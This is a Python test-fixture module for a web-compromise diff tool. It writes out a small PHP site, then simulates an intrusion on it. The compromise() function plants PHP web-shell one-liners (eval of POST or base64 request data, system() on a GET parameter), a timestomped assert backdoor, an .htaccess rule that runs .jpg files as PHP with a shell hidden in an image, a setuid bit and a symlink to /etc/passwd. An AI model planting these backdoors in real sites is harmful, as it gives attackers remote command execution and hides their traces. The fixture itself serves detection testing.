"""A small PHP site ("Acme CMS"), its baselines in every supported form, and its compromise.

The site is written here (no corpus needed); ``compromise()`` applies the intrusions a responder
meets — injected one-liners, a dropped shell, a renamed upload, a timestomped edit, an .htaccess
turning images into PHP, deletions, mode changes, a file swapped for a symlink — and returns what
``webhunt diff`` must report for each path. The malicious lines are inert text.
"""

from __future__ import annotations

import errno
import io
import os
import shutil
import stat
import subprocess
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from webhunt.model import ChangeKind, Severity

# A 1x1 JPEG, enough for a file to look like an image.
JPEG = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b0c19"
    "12130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432ffc0000b08"
    "0001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a0bffc400b51000"
    "02010303020403050504040000017d01020300041105122131410613516107227114328191a1082342b1c11552d1f0"
    "2433627282090a161718191a25262728292a3435363738393a434445464748494a535455565758595a636465666768"
    "696a737475767778797a838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3"
    "c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8f9faffda0008010100003f00fb"
    "d3ffd9"
)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)

INDEX_PHP = """<?php
/**
 * Front to the Acme CMS application. This file doesn't do anything, but loads
 * the bootstrap which does and tells it to render the requested page.
 *
 * @package Acme
 */

/**
 * Tells the bootstrap to load the theme templates.
 *
 * @var bool
 */
define( 'ACME_USE_THEMES', true );

/** Loads the environment and the template */
require __DIR__ . '/includes/bootstrap.php';

$page = isset( $_GET['p'] ) ? (int) $_GET['p'] : 0;
acme_render_page( $page );
"""

WP_CONFIG = """<?php
/**
 * The base configuration for Acme CMS.
 *
 * This file contains the database settings, the secret keys and the table prefix.
 */

// ** Database settings - You can get this info from your web host ** //
define( 'DB_NAME', 'acme' );
define( 'DB_USER', 'acme' );
define( 'DB_PASSWORD', 'correct-horse-battery-staple' );
define( 'DB_HOST', 'localhost' );
define( 'DB_CHARSET', 'utf8mb4' );

/**#@+
 * Authentication unique keys and salts.
 */
define( 'AUTH_KEY',         'put your unique phrase here' );
define( 'SECURE_AUTH_KEY',  'put your unique phrase here' );
define( 'LOGGED_IN_KEY',    'put your unique phrase here' );
/**#@-*/

$table_prefix = 'acme_';

define( 'ACME_DEBUG', false );

/* That's all, stop editing! Happy publishing. */

if ( ! defined( 'ABSPATH' ) ) {
\tdefine( 'ABSPATH', __DIR__ . '/' );
}

require_once ABSPATH . 'includes/bootstrap.php';
"""

FUNCTIONS_PHP = """<?php
/**
 * Helper functions used all over Acme CMS.
 *
 * Every function here is small and has no side effects beyond its return value, which keeps the
 * templates easy to read and the helpers easy to test in isolation from the database layer.
 *
 * @package Acme
 */

/**
 * Escapes text for output inside HTML.
 *
 * @param string $text Raw text.
 * @return string Escaped text.
 */
function acme_esc_html( $text ) {
\treturn htmlspecialchars( (string) $text, ENT_QUOTES, 'UTF-8' );
}

/**
 * Builds the URL of a page.
 *
 * @param int $id Page id.
 * @return string The URL.
 */
function acme_page_url( $id ) {
\treturn '/index.php?p=' . (int) $id;
}

/**
 * Renders a page through the active theme.
 *
 * @param int $id Page id.
 */
function acme_render_page( $id ) {
\t$page = acme_db_get_page( $id );
\tif ( null === $page ) {
\t\thttp_response_code( 404 );
\t\t$page = array( 'title' => 'Not found', 'body' => '' );
\t}
\tinclude __DIR__ . '/../themes/default/page.php';
}
"""

DB_PHP = """<?php
/**
 * Database access for Acme CMS.
 *
 * @package Acme
 */

function acme_db() {
\tstatic $pdo = null;
\tif ( null === $pdo ) {
\t\t$dsn = 'mysql:host=' . DB_HOST . ';dbname=' . DB_NAME . ';charset=' . DB_CHARSET;
\t\t$pdo = new PDO( $dsn, DB_USER, DB_PASSWORD );
\t}
\treturn $pdo;
}

function acme_db_get_page( $id ) {
\t$stmt = acme_db()->prepare( 'SELECT title, body FROM acme_pages WHERE id = ?' );
\t$stmt->execute( array( (int) $id ) );
\t$row = $stmt->fetch( PDO::FETCH_ASSOC );
\treturn false === $row ? null : $row;
}
"""

UTIL_PHP = """<?php
/**
 * Small string utilities.
 */

function acme_truncate( $text, $length = 80 ) {
\tif ( strlen( $text ) <= $length ) {
\t\treturn $text;
\t}
\treturn substr( $text, 0, $length - 1 ) . '…';
}

function acme_slug( $text ) {
\treturn trim( preg_replace( '/[^a-z0-9]+/', '-', strtolower( $text ) ), '-' );
}
"""

VERSION_PHP = """<?php
/**
 * The Acme CMS version string.
 *
 * @global string $acme_version
 */
$acme_version = '4.2.1';

/**
 * Holds the database revision, incremented when the schema changes.
 *
 * @global int $acme_db_version
 */
$acme_db_version = 53496;
"""

BOOTSTRAP_PHP = """<?php
/**
 * Loads configuration, helpers and the database layer.
 */
require_once __DIR__ . '/version.php';
require_once __DIR__ . '/functions.php';
require_once __DIR__ . '/db.php';
require_once __DIR__ . '/util.php';
"""

LOGIN_PHP = """<?php
/**
 * Acme CMS login form.
 */
require __DIR__ . '/../includes/bootstrap.php';

session_start();
$error = '';
if ( 'POST' === $_SERVER['REQUEST_METHOD'] ) {
\t$user = isset( $_POST['user'] ) ? (string) $_POST['user'] : '';
\t$pass = isset( $_POST['pass'] ) ? (string) $_POST['pass'] : '';
\tif ( acme_check_password( $user, $pass ) ) {
\t\t$_SESSION['user'] = $user;
\t\theader( 'Location: /admin/' );
\t\texit;
\t}
\t$error = 'Wrong user name or password.';
}
include __DIR__ . '/templates/login.php';
"""

SECURITY_PHP = """<?php
/**
 * Security headers for the admin area.
 */
header( 'X-Frame-Options: SAMEORIGIN' );
header( 'X-Content-Type-Options: nosniff' );
header( 'Referrer-Policy: same-origin' );
"""

PAGE_PHP = """<?php
/** Default theme: one page. */
?><!doctype html>
<html>
<head><title><?php echo acme_esc_html( $page['title'] ); ?></title>
<link rel="stylesheet" href="/css/style.css"></head>
<body>
<h1><?php echo acme_esc_html( $page['title'] ); ?></h1>
<div class="content"><?php echo $page['body']; ?></div>
<script src="/js/app.js"></script>
</body>
</html>
"""

STATS_CGI = """#!/usr/bin/perl
# Prints the number of pages served today.
use strict;
use warnings;
print "Content-Type: text/plain\\n\\n";
print "ok\\n";
"""

ROOT_HTACCESS = """# BEGIN Acme
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteBase /
RewriteRule ^index\\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END Acme
"""

UPLOADS_HTACCESS = """# Uploaded files are data, never code.
php_flag engine off
<FilesMatch "\\.(?i:php|phtml|php[3-8]|phar)$">
    Require all denied
</FilesMatch>
"""

SITE: dict[str, bytes] = {
    "index.php": INDEX_PHP.encode(),
    "wp-config.php": WP_CONFIG.encode(),
    ".htaccess": ROOT_HTACCESS.encode(),
    "includes/bootstrap.php": BOOTSTRAP_PHP.encode(),
    "includes/functions.php": FUNCTIONS_PHP.encode(),
    "includes/db.php": DB_PHP.encode(),
    "includes/util.php": UTIL_PHP.encode(),
    "includes/version.php": VERSION_PHP.encode(),
    "includes/.htaccess": b"# Nothing in here is served directly.\nDeny from all\n",
    "admin/login.php": LOGIN_PHP.encode(),
    "admin/security.php": SECURITY_PHP.encode(),
    "themes/default/page.php": PAGE_PHP.encode(),
    "cgi-bin/stats.cgi": STATS_CGI.encode(),
    "uploads/.htaccess": UPLOADS_HTACCESS.encode(),
    "uploads/2024/photo.jpg": JPEG,
    "uploads/2024/invoice.txt": b"Invoice 2024-001\nAcme Hosting\nTotal: 120.00 EUR\n",
    "css/style.css": b"body { font-family: sans-serif; }\nh1 { color: #333; }\n",
    "js/app.js": b"document.addEventListener('DOMContentLoaded', function () {\n  console.log('ok');\n});\n",
    "cache/index.html": b"",
    "readme.txt": b"Acme CMS 4.2.1\n\nSee https://example.invalid/docs for documentation.\n",
}
SYMLINKS = {"latest": "uploads/2024"}
EXECUTABLE = {"cgi-bin/stats.cgi"}

# --------------------------------------------------------------------------------------------------
# The intrusion

EVAL_LINE = "@eval($_POST['pass']);"
CONFIG_LINE = "if (isset($_REQUEST['c'])) { @eval(base64_decode($_REQUEST['c'])); }"
SHELL = "<?php if(isset($_GET['cmd'])){ echo '<pre>'; system($_GET['cmd']); echo '</pre>'; } ?>\n"
TIMESTOMP_LINE = "\t@assert($_REQUEST['t']);"


@dataclass(frozen=True)
class Expected:
    kind: ChangeKind
    severity: Severity | None  # at least this (None: no severity)
    exact: bool = False  # severity must be exactly this
    #: baselines that cannot see this change (git keeps no modes beyond the executable bit)
    invisible_to: frozenset[str] = frozenset()


def write_site(root: Path) -> None:
    for rel, data in SITE.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        os.chmod(p, 0o755 if rel in EXECUTABLE else 0o644)
    for rel, target in SYMLINKS.items():
        os.symlink(target, root / rel)
    for d in sorted(p for p in root.rglob("*") if p.is_dir() and not p.is_symlink()):
        os.chmod(d, 0o755)
    os.chmod(root, 0o755)


def insert_after(path: Path, marker: str, line: str) -> int:
    """Insert ``line`` after the first line containing ``marker``; the new line's number."""
    lines = path.read_text().split("\n")
    at = next(i for i, text in enumerate(lines) if marker in text) + 1
    lines.insert(at, line)
    keep = path.stat()
    path.write_text("\n".join(lines))
    os.chmod(path, stat.S_IMODE(keep.st_mode))
    return at + 1


def compromise(root: Path) -> tuple[dict[str, Expected], dict[str, int]]:
    """Apply the intrusion to a copy of the site; (expected change per path, inserted lines)."""
    inserted: dict[str, int] = {}
    # 1. one-liner injected in the middle of index.php, and into wp-config.php
    inserted["index.php"] = insert_after(root / "index.php", "define( 'ACME_USE_THEMES'", EVAL_LINE)
    inserted["wp-config.php"] = insert_after(root / "wp-config.php", "$table_prefix", CONFIG_LINE)
    # 2. a shell dropped in uploads
    (root / "uploads/2024/x.php").write_text(SHELL)
    # 3. an upload renamed .txt -> .php (its content replaced by a shell on the way)
    (root / "uploads/2024/invoice.txt").rename(root / "uploads/2024/invoice.php")
    (root / "uploads/2024/invoice.php").write_text("Invoice 2024-001\n" + SHELL)
    # 4. timestomped edit: same size, same mtime, different content
    f = root / "includes/functions.php"
    before = f.stat()
    text = f.read_text()
    anchor = "\treturn '/index.php?p=' . (int) $id;\n"
    text = text.replace(anchor, anchor + TIMESTOMP_LINE + "\n")
    filler = "easy to read and the helpers easy to test in isolation from the database layer."
    assert filler in text
    text = text.replace(filler, filler[: -(len(TIMESTOMP_LINE) + 2)] + ".")
    f.write_text(text)
    assert f.stat().st_size == before.st_size
    os.utime(f, ns=(before.st_atime_ns, before.st_mtime_ns))
    inserted["includes/functions.php"] = text.split("\n").index(TIMESTOMP_LINE) + 1
    # 5. .htaccess in uploads now runs .jpg as PHP (protection removed), next to an image shell
    (root / "uploads/.htaccess").write_text("AddType application/x-httpd-php .jpg\n")
    (root / "uploads/2024/cat.jpg").write_bytes(JPEG + b"<?php @eval($_POST['z']); ?>")
    # 6. deletions
    (root / "admin/security.php").unlink()
    (root / "includes/.htaccess").unlink()
    # 7. mode changes
    os.chmod(root / "includes/db.php", 0o666)
    os.chmod(root / "uploads", 0o777)
    os.chmod(root / "cgi-bin/stats.cgi", 0o4755)
    # 8. a file replaced by a symlink out of the web root
    (root / "admin/login.php").unlink()
    os.symlink("/etc/passwd", root / "admin/login.php")
    # 9. line endings only, and a benign version bump
    util = root / "includes/util.php"
    util.write_bytes(util.read_bytes().replace(b"\n", b"\r\n"))
    ver = root / "includes/version.php"
    ver.write_text(ver.read_text().replace("'4.2.1'", "'4.2.2'"))
    # 10. a new, harmless image in uploads
    (root / "uploads/2024/new.png").write_bytes(PNG)

    git_blind = frozenset({"git"})
    expected = {
        "index.php": Expected(ChangeKind.MODIFIED, Severity.CRITICAL),
        "wp-config.php": Expected(ChangeKind.MODIFIED, Severity.CRITICAL),
        "uploads/2024/x.php": Expected(ChangeKind.ADDED, Severity.HIGH),
        "uploads/2024/invoice.txt": Expected(ChangeKind.DELETED, Severity.LOW, exact=True),
        "uploads/2024/invoice.php": Expected(ChangeKind.ADDED, Severity.HIGH),
        "includes/functions.php": Expected(ChangeKind.MODIFIED, Severity.CRITICAL),
        "uploads/.htaccess": Expected(ChangeKind.MODIFIED, Severity.HIGH),
        "uploads/2024/cat.jpg": Expected(ChangeKind.ADDED, Severity.HIGH),
        "admin/security.php": Expected(ChangeKind.DELETED, Severity.LOW, exact=True),
        "includes/.htaccess": Expected(ChangeKind.DELETED, Severity.LOW),
        "includes/db.php": Expected(ChangeKind.MODE, Severity.MEDIUM, invisible_to=git_blind),
        "uploads": Expected(ChangeKind.MODE, Severity.LOW, exact=True, invisible_to=git_blind),
        "cgi-bin/stats.cgi": Expected(ChangeKind.MODE, Severity.HIGH, invisible_to=git_blind),
        "admin/login.php": Expected(ChangeKind.MODE, Severity.HIGH),
        "includes/util.php": Expected(ChangeKind.MODIFIED, Severity.LOW, exact=True),
        "includes/version.php": Expected(ChangeKind.MODIFIED, Severity.LOW, exact=True),
        "uploads/2024/new.png": Expected(ChangeKind.ADDED, None),
    }
    return expected, inserted


# --------------------------------------------------------------------------------------------------
# Baselines in every form


def make_tar(root: Path, out: Path, prefix: str) -> Path:
    with tarfile.open(out, "w:gz") as tf:
        tf.add(root, arcname=prefix)
    return out


def make_zip(root: Path, out: Path) -> Path:
    """A zip as Info-ZIP makes it: unix modes, directory entries, symlinks stored as links."""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(root.rglob("*")):
            rel = path.relative_to(root).as_posix()
            st = path.lstat()
            if stat.S_ISLNK(st.st_mode):
                info = zipfile.ZipInfo(rel)
                info.create_system = 3
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
                zf.writestr(info, os.readlink(path))
            elif stat.S_ISDIR(st.st_mode):
                info = zipfile.ZipInfo(rel + "/")
                info.create_system = 3
                info.external_attr = (st.st_mode << 16) | 0x10
                zf.writestr(info, b"")
            else:
                zf.write(path, rel)
    return out


def git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "Acme",
        "GIT_AUTHOR_EMAIL": "dev@example.invalid",
        "GIT_COMMITTER_NAME": "Acme",
        "GIT_COMMITTER_EMAIL": "dev@example.invalid",
        "GIT_CONFIG_NOSYSTEM": "1",
        "HOME": str(repo),
    }
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True, env=env
    ).stdout


def make_git(root: Path, repo: Path) -> str:
    """A repository holding the site in its first commit; returns 'repo@<commit>'."""
    shutil.copytree(root, repo, symlinks=True)
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "Acme CMS 4.2.1")
    commit = git(repo, "rev-parse", "HEAD").strip()
    # later history must not matter: the baseline is the named revision
    (repo / "index.php").write_text("<?php echo 'later';\n")
    git(repo, "commit", "-q", "-am", "later")
    return f"{repo}@{commit}"


@dataclass(frozen=True)
class Sites:
    baseline: Path
    live: Path
    untouched: Path
    expected: dict[str, Expected]
    inserted: dict[str, int]
    specs: dict[str, str]  # baseline form -> spec for open_source


def small_tar(members: list[tuple[tarfile.TarInfo, bytes | None]], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:
        for info, data in members:
            tf.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def deny_reading(monkeypatch: pytest.MonkeyPatch, path: Path) -> None:
    """Make ``path`` unreadable. Root reads every file whatever its mode, so as root opening it is
    refused the way the kernel refuses others (forked readers inherit the patch)."""
    os.chmod(path, 0)
    if os.geteuid() != 0:
        return
    real_open = os.open
    target = str(path)

    def refusing_open(file: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if os.fspath(file) == target:
            raise PermissionError(errno.EACCES, "Permission denied", target)
        return real_open(file, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", refusing_open)
